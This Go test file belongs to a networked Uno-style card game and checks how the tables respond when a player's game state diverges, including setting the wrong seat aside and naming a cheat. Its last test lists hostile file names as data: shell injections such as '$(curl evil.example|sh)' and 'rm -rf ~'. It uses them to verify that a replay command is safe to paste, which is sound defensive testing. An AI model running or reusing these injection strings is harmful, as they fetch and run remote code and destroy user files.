package table

import (
	"bytes"
	"errors"
	"os"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"lastcard/engine"
	"lastcard/lockstep"
	"lastcard/render/seam"
)

// At a table with diverged=aside, the majority plays on without the seat whose state differs. The seats of the
// majority end with one hash and exit code 0. The seat that differs ends with exit code 3.
func TestDivergedAside(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s := seam.Setup{Game: "uno", Rules: "points=150 diverged=aside", Seats: 4}
		p := gather(t, faults{Delay: time.Millisecond}, s, same(4, auto)...)
		p.makeWrong(2, 23)
		out := p.finish()
		wrong := seatOf(p.events[0], "P2")
		if o := out[2]; o.Result != Diverged || o.Exit() != 3 || o.Trouble.Case != "left" {
			t.Errorf("the seat that differs: result %d, %v", o.Result, o.Trouble)
		}
		honest := []int{0, 1, 3}
		for _, i := range honest {
			o := out[i]
			if o.Result != Done || o.Exit() != 0 || o.Hash != out[0].Hash {
				t.Fatalf("seat %d: result %d, hash %x, %v", i, o.Result, o.Hash, o.Trouble)
			}
			if sum := verified(t, o.Log); !sum.Ended || sum.State != o.Hash {
				t.Errorf("log of seat %d: %+v", i, sum)
			}
			x := find[seam.SeatParted](p.events[i])
			if len(x) != 1 || x[0].Seat != wrong || x[0].Name != "P2" || x[0].K != 23 {
				t.Fatalf("seat %d told %+v, want seat %d", i, x, wrong)
			}
			if b, err := os.ReadFile(x[0].File); err != nil || bytes.Count(b, []byte("\nrecord ")) != 4 || !strings.HasPrefix(string(b), x[0].Text) {
				t.Errorf("seat %d kept %q, %v", i, b, err)
			}
			if b, err := os.ReadFile(find[seam.Desync](p.events[i])[0].Report); err != nil || !strings.Contains(string(b), "wrong: seat") {
				t.Errorf("seat %d: report %q, %v", i, b, err)
			}
			if a := find[seam.SeatAside](p.events[i]); len(a) != 1 || a[0].Seat != wrong {
				t.Errorf("seat %d: set aside: %+v", i, a)
			}
			if len(find[seam.Cheat](p.events[i])) > 0 {
				t.Errorf("seat %d calls it a cheat", i)
			}
		}
		if len(find[seam.SeatParted](p.events[2])) > 0 {
			t.Error("the seat that differs says so of others")
		}
	})
}

// If no majority has the same state, nobody can know which seat is wrong. Then all seats stop, also at a table
// with diverged=aside.
func TestDivergedWithoutMajority(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		p := gather(t, faults{Delay: time.Millisecond}, seam.Setup{Game: "uno", Rules: "diverged=aside", Seats: 2}, same(2, auto)...)
		p.makeWrong(1, 9)
		for i, o := range p.finish() {
			if o.Result != Diverged || o.Report == "" || len(find[seam.SeatParted](p.events[i])) > 0 || len(find[seam.Desync](p.events[i])[0].Seats) > 0 {
				t.Errorf("seat %d: %+v", i, o)
			}
		}
	})
}

// A proof of cheating may arrive after the match has stopped and blamed a seat. The match then blames the
// cheat instead, but keeps the time at which it stopped. A match that has stopped for another reason keeps that
// reason.
func TestProofReplacesTheVerdict(t *testing.T) {
	blank := func() *match {
		return &match{
			genesis: &lockstep.Genesis{Seats: make([]lockstep.Player, 3)}, names: []string{"Anna", "Ben", "Cleo"},
			session: &lockstep.Session{}, log: &logFile{}, feed: newFeed(),
		}
	}
	differs := func(m *match, seat lockstep.Seat) {
		m.onDiverged(&lockstep.Notice{Kind: lockstep.NoticeDiverged, Seat: lockstep.NoSeat, Seats: lockstep.SeatSet(0).With(seat), K: 7})
	}
	m := blank()
	differs(m, 1)
	if m.course.phase != matchStopped || !strings.Contains(m.course.trouble.Error(), "Ben") {
		t.Fatalf("phase %d, trouble %v", m.course.phase, m.course.trouble)
	}
	since := m.course.since
	differs(m, 2)
	if text := m.course.trouble.Error(); strings.Contains(text, "Ben") || !strings.Contains(text, "Cleo") || !m.course.since.Equal(since) {
		t.Errorf("after the proof: %s", text)
	}
	if told := find[seam.Desync](m.feed.factsAfter(0)); len(told) != 2 || !slices.Equal(told[1].Seats, []engine.Seat{2}) {
		t.Errorf("told %+v", told)
	}
	m = blank()
	m.course.stop(twinTrouble())
	differs(m, 2)
	if m.course.trouble.Code != twinTrouble().Code {
		t.Errorf("the reason of the stop is lost: %v", m.course.trouble)
	}
}

// If a proof of cheating arrives after the match has stopped, the person first reads the name of the player
// whom the states seem to blame, and then the name of the cheat. The table ends with the second trouble.
func TestPersonIsToldOfTheProof(t *testing.T) {
	m := &match{feed: newFeed()}
	s := &seat{match: m, feed: m.feed, publishNow: func() {}}
	m.course.stop(divergedTrouble(7, []string{"Ben"}, false, false, ""))
	s.keepUpPhase()
	m.course.trouble = divergedTrouble(7, []string{"Cleo"}, false, false, "")
	if !s.keepUpPhase() || s.keepUpPhase() {
		t.Error("the proof must be news, but only once")
	}
	told := find[seam.Failure](m.feed.factsAfter(0))
	if len(told) != 2 || !strings.Contains((&Trouble{Trouble: told[1].Trouble}).Error(), "Cleo") || s.stay.trouble != m.course.trouble || s.stay.result != Diverged {
		t.Errorf("told %+v, ends with %v", told, s.stay.trouble)
	}
}

// At a table with diverged=aside, a player who acts while the states differ gets ErrBusy. When the table has
// set the wrong seat aside, the player can act again.
func TestDivergedBusy(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		options := same(3, auto)
		options[0] = Options{Ready: true, OneMatch: true}
		p := gather(t, faults{Delay: 5 * time.Millisecond}, seam.Setup{Game: "uno", Rules: "points=20 diverged=aside", Seats: 3}, options...)
		p.makeWrong(2, 12)
		me, busy := p.tables[0], false
		for me.Snapshot().Stage != seam.Ended {
			s := me.Snapshot()
			if s.Stage == seam.Failed {
				t.Fatal(s.Trouble)
			}
			for _, x := range s.Players {
				if x.Differs && x.IsHere && !busy {
					busy = s.ActionPending && errors.Is(me.Act(engine.Act(engine.Draw)), seam.ErrBusy)
				}
			}
			if s.Stage == seam.Playing && !s.ActionPending {
				if v := &s.View; v.Need == engine.NeedNext {
					_ = me.Act(engine.Act(engine.Next))
				} else if v.Turn == v.Me && len(v.Legal) > 0 {
					_ = me.Act(v.Legal[0])
				}
			}
			time.Sleep(100 * time.Millisecond)
		}
		if !busy {
			t.Error("Act has never returned ErrBusy")
		}
		for i, o := range p.finish() {
			if want := map[bool]Result{true: Diverged, false: Done}[i == 2]; o.Result != want {
				t.Errorf("seat %d: %+v", i, o)
			}
		}
	})
}

// The command in a report is safe to paste, whatever the log is called.
func TestReplayCommand(t *testing.T) {
	for path, want := range map[string]string{
		"/home/anna/2026-11-21-uno-ab010203-seat2.lastcard": "lastcard replay 2026-11-21-uno-ab010203-seat2.lastcard",
		"/tmp/x; rm -rf ~.lastcard":                         "lastcard replay FILE",
		"/tmp/$(curl evil.example|sh)-seat2.lastcard":       "lastcard replay FILE",
		"/tmp/`id`.lastcard":                                "lastcard replay FILE",
		"/tmp/a\nrm -rf ~\n.lastcard":                       "lastcard replay FILE",
		"/tmp/--data=evil.lastcard":                         "lastcard replay FILE",
		"/tmp/x\x1b[2J.lastcard":                            "lastcard replay FILE",
		"/tmp/ü.lastcard":                                   "lastcard replay FILE",
	} {
		if got := replayCommand(path); got != want {
			t.Errorf("%q: %q, want %q", path, got, want)
		}
	}
}
